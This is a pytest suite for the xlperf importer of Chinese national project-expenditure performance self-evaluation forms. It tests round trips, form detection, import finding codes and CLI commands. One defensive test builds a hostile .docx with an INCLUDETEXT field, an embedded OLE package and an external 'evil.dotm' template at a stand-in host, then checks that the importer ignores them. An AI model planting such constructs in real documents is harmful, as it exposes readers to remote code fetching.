"""Import of the national 项目支出绩效自评表 typed in Word, Excel or WPS.

Round trips: model -> the Word template's .docx, or a hand-laid .xlsx in the variants of
tests/national_forms.py, or an .xls through LibreOffice -> import -> the same model, for
the five real examples and for generated forms; the label reader agrees with the layout
reader on xlperf's own national workbook. The two kinds are told apart by their labels.
Each IMP code the national reader adds has a trigger and a near miss.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.national_forms import BARE, VARIANTS, Variant, comparable, write_docx, write_xlsx
from xlperf.files import sources
from xlperf.files.grid import TextGrid, norm
from xlperf.files.imports import grid_of, import_file, import_grid
from xlperf.files.safezip import UnreadableFile
from xlperf.forms.national_2020 import importer
from xlperf.forms.national_2020.model import NationalForm

ROOT = Path(__file__).resolve().parent.parent
EXAMPLES = sorted((ROOT / "examples").glob("national-*.json"))
OPTIONAL = {("IMP006", "manager"), ("IMP006", "phone"), ("IMP006", "fill_date"), ("IMP006", "grade"),
            ("IMP006", "funds.change_note")}


def example(name: str = "national-clean-2022") -> NationalForm:
    return sources.load(ROOT / "examples" / f"{name}.json")


def codes(result) -> list[tuple[str, str]]:
    return [(f.code, f.field) for f in result.findings]


# ---- the five real examples in every layout ------------------------------------------------


@pytest.mark.parametrize("fmt", ["docx", "xlsx"])
@pytest.mark.parametrize("variant", VARIANTS, ids=[v.name for v in VARIANTS])
@pytest.mark.parametrize("path", EXAMPLES, ids=[p.stem for p in EXAMPLES])
def test_examples_round_trip_in_every_layout(tmp_path, path, variant, fmt):
    form = sources.load(path)
    out = tmp_path / f"form.{fmt}"
    (write_docx if fmt == "docx" else write_xlsx)(form, out, variant)
    result = import_file(out)
    assert isinstance(result.form, NationalForm)
    assert codes(result) == []
    assert comparable(result.form) == comparable(form)


@pytest.mark.parametrize("fmt", ["docx", "xlsx"])
def test_the_bare_official_template_reports_the_fields_it_does_not_have(tmp_path, fmt):
    form = example().model_copy(update={"manager": "", "phone": "", "grade": "", "fill_date": None})
    out = tmp_path / f"bare.{fmt}"
    (write_docx if fmt == "docx" else write_xlsx)(form, out, BARE)
    result = import_file(out)
    assert set(codes(result)) == OPTIONAL and all(f.severity == "warning" for f in result.findings)
    assert comparable(result.form, local_fields=False) == comparable(form, local_fields=False)
    assert all("官方表式可不设" in f.message for f in result.findings)


def test_the_word_template_places_are_named_as_a_person_finds_them(tmp_path):
    result = import_file(write_path(tmp_path / "n.docx"))
    where = {item.field: item.where for item in result.record.read}
    assert where["project_name"] == "第1个表格第1行第3格"
    assert where["funds.total.budget"] == "第1个表格第5行第6格"
    assert where["indicators[0].name"] == "第1个表格第12行第4格"
    assert where["year"] == "第2段"
    assert where["total.score"].startswith("第1个表格第")


def write_path(path: Path, form: NationalForm | None = None, v: Variant = Variant()) -> Path:
    (write_docx if path.suffix == ".docx" else write_xlsx)(form or example(), path, v)
    return path


def test_label_reader_agrees_with_the_layout_reader_on_xlperf_national_workbooks(tmp_path):
    """Two readers of one file: by the layout recorded in _xlperf, and by the labels only."""
    from xlperf.forms.national_2020 import workbook

    for path in EXAMPLES:
        out = tmp_path / f"{path.stem}.xlsx"
        workbook.build(out, sources.load(path))
        by_layout = sources.load(out)
        by_labels = import_grid(grid_of(out))
        assert codes(by_labels) == [], path.name
        assert comparable(by_labels.form) == comparable(by_layout), path.name


# ---- generated forms -----------------------------------------------------------------------------

_KNOWN = {norm(x) for x in importer.known_labels()}
_alphabet = st.sampled_from(list("绩效目标完成情况预算资金服务满意度增长率数量质量时效成本是否项名称单位")
                            + list("abcXYZ0123456789%.-/（）、，。《》≥≤ "))
_text = st.text(_alphabet, max_size=24).map(str.strip).filter(lambda t: norm(t) not in _KNOWN)
_short = _text.filter(bool)


@settings(max_examples=25, deadline=None, suppress_health_check=list(HealthCheck))
@given(data=st.data(), variant=st.sampled_from(VARIANTS), fmt=st.sampled_from(["docx", "xlsx"]))
def test_generated_national_forms_round_trip(tmp_path_factory, data, variant, fmt):
    from tests.strategies import typed_national_forms

    form = data.draw(typed_national_forms(text_strategy=_text, name_strategy=_short))
    path = tmp_path_factory.mktemp("gen") / f"form.{fmt}"
    (write_docx if fmt == "docx" else write_xlsx)(form, path, variant)
    result = import_file(path)
    assert codes(result) == []
    assert comparable(result.form) == comparable(form)


# ---- .xls through LibreOffice ---------------------------------------------------------------------


@pytest.fixture(scope="module")
def national_xls(tmp_path_factory):
    from tests.test_import import _soffice_convert

    folder = tmp_path_factory.mktemp("nxls")
    src = folder / "national.xlsx"
    write_xlsx(example("national-lijiang-gucheng-2020"), src, Variant("split", split_labels=True, reorder=True))
    return _soffice_convert(src, folder, "MS Excel 97")


def test_xls_national_form_imports_as_the_same_model(national_xls):
    result = import_file(national_xls)
    assert codes(result) == []
    assert comparable(result.form) == comparable(example("national-lijiang-gucheng-2020"))


# ---- telling the kinds apart -------------------------------------------------------------------


def test_national_and_guangdong_labels_decide_the_kind(tmp_path):
    from tests.official_forms import write_docx as guangdong_docx
    from xlperf.forms.guangdong_1_1.model import SelfEvaluation

    national = import_file(write_path(tmp_path / "n.docx"))
    assert isinstance(national.form, NationalForm)
    guangdong_docx(sources.load(ROOT / "examples" / "shaoguan-2020.json"), tmp_path / "g.docx")
    guangdong = import_file(tmp_path / "g.docx")
    assert isinstance(guangdong.form, SelfEvaluation)
    grid = grid_of(tmp_path / "n.docx")
    assert importer.detect(grid) >= 10
    from xlperf.forms.guangdong_1_1 import importer as gd

    assert gd.detect(grid) < 3 and importer.detect(grid_of(tmp_path / "g.docx")) < 3


def test_a_file_with_neither_kinds_labels_is_refused_as_today(tmp_path):
    grid = TextGrid("x.xlsx")
    grid.add_row(["项目名称", "某项目"], "Sheet1", 1)
    grid.add_row(["得分", "分值"], "Sheet1", 2)
    with pytest.raises(UnreadableFile) as info:
        import_grid(grid)
    assert info.value.code == "IN_NOT_FORM" and "不是自评表" in info.value.message


# ---- what is reported, never guessed ----------------------------------------------------------


def _grid(tmp_path, v: Variant = Variant(), form: NationalForm | None = None) -> TextGrid:
    return grid_of(write_path(tmp_path / "n.xlsx", form, v))


def _replace(grid: TextGrid, old: str, new, nth: int = 0) -> TextGrid:
    hits = [(r, c) for r, row in enumerate(grid.rows) for c, v in enumerate(row) if isinstance(v, str) and norm(v) == norm(old)]
    r, c = hits[nth]
    grid.rows[r][c] = new
    return grid


def test_imp001_a_required_label_that_is_not_there(tmp_path):
    result = import_grid(_replace(_grid(tmp_path), "全年执行数", "执行"))
    assert ("IMP001", "funds") in codes(result)
    assert result.form.funds.total.budget is None


def test_imp001_near_miss_a_label_written_another_way(tmp_path):
    grid = _replace(_replace(_grid(tmp_path), "全年执行数", "全年执行数（B）"), "项目名称", "项 目 名\n称：")
    result = import_grid(grid)
    assert codes(result) == [] and result.form.funds.total.executed == example().funds.total.executed


def test_imp001_a_fund_row_missing(tmp_path):
    result = import_grid(_replace(_grid(tmp_path), "上年结转资金", "结转"))
    assert ("IMP001", "funds.carryover") in codes(result)


def test_imp001_no_year_anywhere(tmp_path):
    grid = _replace(_grid(tmp_path), "（2022年度）", "")
    result = import_grid(grid)
    assert codes(result) == [("IMP001", "year")] and result.form.year is None


def test_a_year_in_chinese_digits_in_the_title_or_its_line_is_read(tmp_path):
    for title, line in (("二〇二二年度项目支出绩效自评表", ""), ("二零二二年项目支出绩效自评表", ""),
                        ("项目支出绩效自评表", "（二〇二二年度）")):
        grid = _replace(_replace(_grid(tmp_path), "（2022年度）", line), "项目支出绩效自评表", title)
        result = import_grid(grid)
        assert codes(result) == [] and result.form.year == 2022, (title, line)


def test_near_miss_a_title_with_chinese_words_but_no_year_still_has_none(tmp_path):
    grid = _replace(_replace(_grid(tmp_path), "（2022年度）", ""), "项目支出绩效自评表", "十四五规划项目支出绩效自评表")
    result = import_grid(grid)
    assert codes(result) == [("IMP001", "year")] and result.form.year is None


def test_imp002_a_fund_value_typed_twice(tmp_path):
    """A value typed in the blank column beside 全年执行数 falls in its band: two values."""
    grid = _grid(tmp_path, Variant("x", merges=False, extra_columns=True))
    r = next(r for r, row in enumerate(grid.rows) if any(isinstance(v, str) and norm(v) == "年度资金总额" for v in row))
    hr = next(r for r, row in enumerate(grid.rows) if any(isinstance(v, str) and norm(v) == "全年执行数" for v in row))
    hc = next(c for c, v in enumerate(grid.rows[hr]) if isinstance(v, str) and norm(v) == "全年执行数")
    assert grid.rows[r][hc + 1] is None
    grid.rows[r][hc + 1] = "19"
    result = import_grid(grid)
    assert codes(result) == [("IMP002", "funds.total.executed")] and result.form.funds.total.executed is None


def test_imp002_near_miss_dashes_in_the_fund_rows(tmp_path):
    result = import_grid(_grid(tmp_path))
    assert codes(result) == [] and result.form.funds.appropriation.points is None


def test_imp003_a_fund_amount_that_cannot_be_read(tmp_path):
    grid = _grid(tmp_path, Variant("t", typed_text=True))
    grid = _replace(grid, "20.00", "约二十万")
    result = import_grid(grid)
    assert [c for c, _ in codes(result)] == ["IMP003"]


def test_imp003_near_miss_separators_percent_and_full_width(tmp_path):
    form = example().model_copy(deep=True)
    form.funds.total.budget = form.funds.total.budget * 1000
    result = import_grid(_grid(tmp_path, Variant("t", typed_text=True), form))
    assert codes(result) == [] and result.form.funds.total.budget == form.funds.total.budget


def test_imp006_a_local_field_absent(tmp_path):
    result = import_grid(_replace(_grid(tmp_path), "自评等级", ""))
    assert codes(result) == [("IMP006", "grade")] and result.findings[0].severity == "warning"


def test_imp006_near_miss_a_local_field_present_but_empty(tmp_path):
    form = example().model_copy(update={"grade": ""})
    result = import_grid(_grid(tmp_path, form=form))
    assert codes(result) == [] and result.form.grade == ""


def test_imp006_no_total_row(tmp_path):
    grid = _replace(_grid(tmp_path), "总分", "")
    result = import_grid(grid)
    assert codes(result) == [("IMP006", "total")] and result.form.total.score is None


def test_imp007_title_year_and_field_disagree(tmp_path):
    grid = _grid(tmp_path, Variant("y", year="field"))
    grid = _replace(grid, "项目支出绩效自评表", "2021年度项目支出绩效自评表")
    result = import_grid(grid)
    assert codes(result) == [("IMP007", "year")] and result.form.year is None
    assert "2021" in result.findings[0].message and "2022" in result.findings[0].message


def test_imp007_near_miss_title_and_field_agree(tmp_path):
    grid = _grid(tmp_path, Variant("y", year="field"))
    grid = _replace(grid, "项目支出绩效自评表", "2022年度项目支出绩效自评表")
    result = import_grid(grid)
    assert codes(result) == [] and result.form.year == 2022


def test_imp008_text_in_a_remark_column(tmp_path):
    grid = _grid(tmp_path, Variant("o", other_headers=True))
    r = next(r for r, row in enumerate(grid.rows) if any(norm(v) == "备注" for v in row if isinstance(v, str)))
    c = next(c for c, v in enumerate(grid.rows[r]) if isinstance(v, str) and norm(v) == "备注")
    grid.rows[r + 2][c:c + 1] = ["已整改"]
    result = import_grid(grid)
    assert codes(result) == [("IMP008", "indicators[1]")] and "已整改" in result.findings[0].message
    assert comparable(result.form) == comparable(example())


def test_imp008_near_miss_an_empty_remark_column(tmp_path):
    result = import_grid(_grid(tmp_path, Variant("o", other_headers=True)))
    assert codes(result) == []


def test_deviation_in_two_columns_is_joined_and_split_back(tmp_path):
    form = example().model_copy(deep=True)
    form.indicators[0].deviation = "进度滞后\n加强督办"
    result = import_file(write_path(tmp_path / "n.docx", form, Variant("s", split_deviation=True)))
    assert result.form.indicators[0].deviation == "进度滞后\n加强督办" and codes(result) == []
    assert {i.field for i in result.record.read if i.where.endswith("第10格") or i.where.endswith("第9格")} >= {"indicators[0].deviation"}


def test_every_new_import_code_has_a_test_here():
    import re

    text = Path(__file__).read_text(encoding="utf-8")
    for code in ("IMP006", "IMP007", "IMP008"):
        assert re.search(rf"def test_{code.lower()}_(?!near_miss)", text), code
        assert f"def test_{code.lower()}_near_miss" in text, code


# ---- every command reads them; carry-over ------------------------------------------------------


def run_cli(*args, cwd):
    from tests.test_import import run_cli as run

    return run(*args, cwd=cwd)


def test_check_score_export_and_new_read_a_national_docx(tmp_path):
    write_path(tmp_path / "n.docx")
    done = run_cli("check", "n.docx", "--json", cwd=tmp_path)
    data = json.loads(done.stdout)
    from_json = json.loads(run_cli("check", EXAMPLES[0], "--json", cwd=tmp_path).stdout)
    assert [(f["code"], f["field"]) for f in data["findings"]] == [(f["code"], f["field"]) for f in from_json["findings"]]
    assert data["score"] == from_json["score"]
    assert run_cli("score", "n.docx", cwd=tmp_path).returncode in (0, 1)
    done = run_cli("export", "n.docx", "-o", "r.docx", cwd=tmp_path)
    assert done.returncode in (0, 1), done.stderr
    assert (tmp_path / "r.docx").exists()
    done = run_cli("new", "w.xlsx", "--from", "n.docx", cwd=tmp_path)
    assert done.returncode == 0, done.stderr

    def typed(form):
        """The formula edition computes the 其中 rows' 执行率 the copy left blank."""
        data = comparable(form)
        for part in ("appropriation", "carryover", "other"):
            data["funds"][part].pop("rate")
        return data

    assert typed(sources.load(tmp_path / "w.xlsx")) == typed(example())


def test_import_command_writes_national_json_and_both_workbooks(tmp_path):
    src = write_path(tmp_path / "n.docx")
    before = src.read_bytes()
    done = run_cli("import", "n.docx", "-o", "n.json", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert "第1个表格第5行第6格" in done.stdout and "全部栏目都已读取" in done.stdout
    assert comparable(sources.load(tmp_path / "n.json")) == comparable(example())
    assert json.loads((tmp_path / "n.json").read_text(encoding="utf-8"))["form"] == "national-2020"
    done = run_cli("import", "n.docx", "-o", "n.xlsx", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert comparable(sources.load(tmp_path / "n.xlsx")) == comparable(example())
    done = run_cli("import", "n.docx", "-o", "n.xlsm", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    macro = sources.load(tmp_path / "n.xlsm")
    assert isinstance(macro, NationalForm)
    computed = ("appropriation", "carryover", "other")  # the workbook computes the 执行率 the copy left blank
    got, want = comparable(macro), comparable(example())
    for data in (got, want):
        for part in computed:
            data["funds"][part].pop("rate")
    assert got == want
    assert src.read_bytes() == before


CLEARED = ("funds.", "goals.actual", "total.score", "grade")
"""Fields a carried national form leaves for the new year (its unfilled findings point here)."""


@pytest.mark.parametrize("path", EXAMPLES, ids=[p.stem for p in EXAMPLES])
def test_national_carry_over_keeps_moves_and_clears(path):
    import datetime as dt

    from xlperf.forms.carry import next_year

    last = sources.load(path).model_copy(update={"fill_date": dt.date(2024, 2, 29), "rules": "national-2020-provincial"})
    new, plan = next_year(last)
    assert new.year == last.year + 1 == plan.year and new.fill_date == dt.date(2025, 2, 28)
    assert (new.project_name, new.department, new.implementer, new.manager, new.phone, new.goals.expected, new.rules) == (
        last.project_name, last.department, last.implementer, last.manager, last.phone, last.goals.expected, last.rules)
    assert [(r.level1, r.level2, r.name, r.target, r.points) for r in new.indicators] == [
        (r.level1, r.level2, r.name, r.target, r.points) for r in last.indicators]
    assert all((r.actual, r.score, r.deviation) == ("", None, "") for r in new.indicators)
    assert new.goals.actual == "" and new.grade == "" and new.total.score is None and new.source == ""
    assert new.funds.total.points == last.funds.total.points
    for row in (new.funds.total, *new.funds.parts()):
        assert (row.initial, row.budget, row.executed, row.rate, row.score) == (None,) * 5
    assert any(line.startswith("评价年度：") and str(last.year + 1) in line for line in plan.moved)
    assert last.goals.actual, "the source form is left as it was"


def test_next_year_carries_a_national_docx_into_a_workbook_that_checks_as_an_unfilled_year(tmp_path):
    import datetime as dt

    last = example().model_copy(update={"fill_date": dt.date(2023, 3, 1)})
    src = write_path(tmp_path / "2022.docx", last)
    done = run_cli("new", "2023.xlsx", "--from", src.name, "--next-year", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    out = done.stdout
    assert out.index("保留（") < out.index("顺延一年（") < out.index("清空（") < out.index("已生成工作簿")
    assert "评价年度：2022 → 2023" in out and "填报日期：2023-03-01 → 2024-03-01" in out
    new = sources.load(tmp_path / "2023.xlsx")
    assert isinstance(new, NationalForm) and new.year == 2023 and new.indicators[0].name == last.indicators[0].name
    result = json.loads(run_cli("check", "2023.xlsx", "--json", cwd=tmp_path).stdout)
    found = [(f["code"], f["field"]) for f in result["findings"]]
    assert found, "an unfilled year has findings"
    unfilled = [f for f in found if f[1].startswith(CLEARED) or f[1].endswith((".actual", ".score", ".deviation"))]
    assert found == unfilled
    assert {f for f in found if f[1].startswith("indicators[") and f[1].endswith(".actual")} == {
        ("NAT017", f"indicators[{i}].actual") for i in range(len(last.indicators))}
    done = run_cli("new", "2023.xlsm", "--from", src.name, "--next-year", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    macro = sources.load(tmp_path / "2023.xlsm")
    assert isinstance(macro, NationalForm) and macro.year == 2023 and macro.indicators == new.indicators


def test_fields_and_embedded_objects_in_a_national_docx_are_never_followed(tmp_path):
    """A value cell holding an INCLUDETEXT field and an embedded OLE object (with its part),
    the document with an external template: the import reads the typed text only."""
    from tests.badfiles import rewrite_zip

    base = write_path(tmp_path / "base.docx")
    name = example().project_name.encode()
    field = (b'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDETEXT '
             b'"http://203.0.113.9/x.docx" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
             b'<w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed" '
             b'ProgID="Package" ShapeID="_x0000_i1025" DrawAspect="Icon" ObjectID="_1" r:id="rIdOle"/></w:object></w:r>')
    rels = (b'<Relationship Id="rIdOle" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" '
            b'Target="embeddings/oleObject1.bin"/>'
            b'<Relationship Id="rIdTpl" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
            b'Target="http://203.0.113.9/evil.dotm" TargetMode="External"/></Relationships>')

    def change(part, data):
        if part == "word/document.xml":
            at = data.index(name)
            end = data.index(b"</w:r>", at) + len(b"</w:r>")
            return data[:end] + field + data[end:]
        if part == "word/_rels/document.xml.rels":
            return data.replace(b"</Relationships>", rels)
        return data

    hostile = rewrite_zip(base, tmp_path / "hostile.docx", change,
                          add={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"MZ" * 200})
    import zipfile

    with zipfile.ZipFile(hostile) as z:
        assert b"INCLUDETEXT" in z.read("word/document.xml") and b"OLEObject" in z.read("word/document.xml")
    result = import_file(hostile)
    assert codes(result) == []
    assert comparable(result.form) == comparable(example())
    assert not any("203.0.113.9" in item.text or "INCLUDETEXT" in item.text for item in result.record.read)


def test_mark_refuses_a_typed_national_copy_and_writes_nothing(tmp_path):
    """`mark` fills and comments an xlperf workbook's cells; a typed copy has none of its
    cells: refused in Chinese, nothing written (before, a workbook was written under .docx)."""
    write_path(tmp_path / "n.docx")
    write_path(tmp_path / "n.xlsx")
    for src, out in (("n.docx", "m.docx"), ("n.xlsx", "m.xlsx")):
        done = run_cli("mark", src, "-o", out, cwd=tmp_path)
        assert done.returncode == 2 and "xlperf import" in done.stderr and "Traceback" not in done.stderr
        assert not (tmp_path / out).exists()


def test_imp002_a_second_indicator_table_after_the_total(tmp_path):
    """The indicator header again below 总分 (a second project's table pasted under): which
    table is meant cannot be told, nothing of the indicators is read."""
    grid = _grid(tmp_path)
    hr = next(r for r, row in enumerate(grid.rows) if any(isinstance(v, str) and norm(v) == "三级指标" for v in row))
    grid.add_row(list(grid.rows[hr]), "项目支出绩效自评表", grid.height + 1)
    result = import_grid(grid)
    assert ("IMP002", "indicators") in codes(result) and result.form.indicators == []


def test_imp002_near_miss_the_header_typed_again_after_a_page_break(tmp_path):
    form = example()
    result = import_grid(_grid(tmp_path, Variant("p", repeat_header=True, merges=False, blank_levels=True), form))
    assert codes(result) == [] and len(result.form.indicators) == len(form.indicators)


def test_a_year_typed_with_its_unit_in_the_year_field_is_read(tmp_path):
    """"2022年" and "2022年度" in the 评价年度 cell are values, not the title's year line."""
    for typed in ("2022年", "2022年度", "2022"):
        grid = _grid(tmp_path, Variant("y", year="field"))
        r, c = next((r, c) for r, row in enumerate(grid.rows) for c, v in enumerate(row) if isinstance(v, str) and norm(v) == "评价年度")
        grid.rows[r][c + 2] = typed
        result = import_grid(grid)
        assert codes(result) == [] and result.form.year == 2022, typed


def test_texts_that_start_like_a_note_are_values_inside_the_table(tmp_path):
    form = example().model_copy(deep=True)
    form.indicators[0].deviation = "说明：进度滞后"
    form.indicators[1].deviation = "备注：已整改"
    result = import_file(write_path(tmp_path / "n.docx", form))
    assert codes(result) == [] and comparable(result.form) == comparable(form)


def test_numbers_shown_with_a_percent_format_read_as_the_person_saw_them(tmp_path):
    """A 执行率 typed as 0.95 in a cell formatted 0.00% (Excel shows 95.00%) is 95, and an
    actual typed as 0.98 formatted 0% is “98%”, as a typed copy shows them."""
    from decimal import Decimal

    from openpyxl import load_workbook

    form = example().model_copy(deep=True)
    form.funds.total.rate = Decimal("95")
    form.indicators[0].actual = "98%"
    path = write_path(tmp_path / "n.xlsx", form)
    book = load_workbook(path)
    changed = 0
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value in ("95.00%", "98%"):
                    number = 0.95 if cell.value != "98%" else 0.98
                    cell.value, cell.number_format = number, "0.00%" if number == 0.95 else "0%"
                    changed += 1
    assert changed == 2
    book.save(path)
    result = import_file(path)
    assert codes(result) == []
    assert result.form.funds.total.rate == Decimal("95") and result.form.indicators[0].actual == "98%"


def test_near_miss_a_plain_number_is_not_read_as_a_percent(tmp_path):
    from decimal import Decimal

    from openpyxl import load_workbook

    form = example().model_copy(deep=True)
    form.funds.total.rate = Decimal("95")
    path = write_path(tmp_path / "n.xlsx", form)
    book = load_workbook(path)
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value == "95.00%":
                    cell.value, cell.number_format = 95, "0.00"
    book.save(path)
    assert import_file(path).form.funds.total.rate == Decimal("95")


def test_percent_text_keeps_the_stored_digits():
    from xlperf.files.imports import _as_percent_text

    assert [_as_percent_text(v) for v in (0.95, 1, 0.8625, 0.0, 1.2059)] == ["95%", "100%", "86.25%", "0%", "120.59%"]
